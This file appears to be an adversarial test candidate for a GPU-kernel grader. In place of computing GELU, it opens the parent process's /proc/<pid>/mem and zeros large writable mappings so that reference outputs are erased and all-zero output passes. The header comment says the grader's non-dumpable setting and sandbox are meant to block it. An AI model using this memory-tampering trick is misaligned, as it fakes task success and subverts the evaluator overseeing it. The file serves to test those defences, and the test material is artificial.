// Adversarial candidate (task gelu) -- expected: wrong_output (or
// constant_output, sandbox_violation).
// Attack class "the parent's memory is writable" (issue 30): the expected
// outputs live in the parent (kopt), which runs as the same user. The
// candidate opens /proc/<parent>/mem for writing, and writes zeros over
// every writable anonymous mapping of the parent it can find in
// /proc/<parent>/maps larger than 64 MiB (the reference's outputs among
// them), then writes zeros as its own output: "all-zero outputs pass as
// correct".
// What stops it: kopt makes itself non-dumpable (RunnerClient), so a
// same-user process cannot open its memory, and the sandbox refuses opening
// any file for writing; the zero outputs then fail the parent's comparison.
#include <cuda_runtime.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstring>
#include <vector>

namespace {

void ZeroParentMappings() {
  pid_t parent = getppid();
  char path[64];
  std::snprintf(path, sizeof path, "/proc/%d/mem", static_cast<int>(parent));
  int memory = open(path, O_RDWR);
  if (memory < 0) return;
  std::snprintf(path, sizeof path, "/proc/%d/maps", static_cast<int>(parent));
  FILE* maps = std::fopen(path, "r");
  if (maps == nullptr) return;
  std::vector<char> zeros(size_t{1} << 20, 0);
  char line[512];
  while (std::fgets(line, sizeof line, maps) != nullptr) {
    unsigned long begin = 0, end = 0;
    char permissions[8] = {0};
    char name[256] = {0};
    if (std::sscanf(line, "%lx-%lx %7s %*s %*s %*s %255s", &begin, &end, permissions, name) < 3) continue;
    if (permissions[1] != 'w' || name[0] == '/' || end - begin < (64ul << 20)) continue;
    for (unsigned long at = begin; at < end; at += zeros.size()) {
      (void)pwrite(memory, zeros.data(), zeros.size(), static_cast<off_t>(at));
    }
  }
  std::fclose(maps);
  close(memory);
}

}  // namespace

extern "C" void gelu(const float* x, float* y, int n, cudaStream_t stream) {
  (void)x;
  static bool tried = false;
  if (!tried) {
    tried = true;
    ZeroParentMappings();
  }
  cudaMemsetAsync(y, 0, sizeof(float) * static_cast<size_t>(n), stream);
}
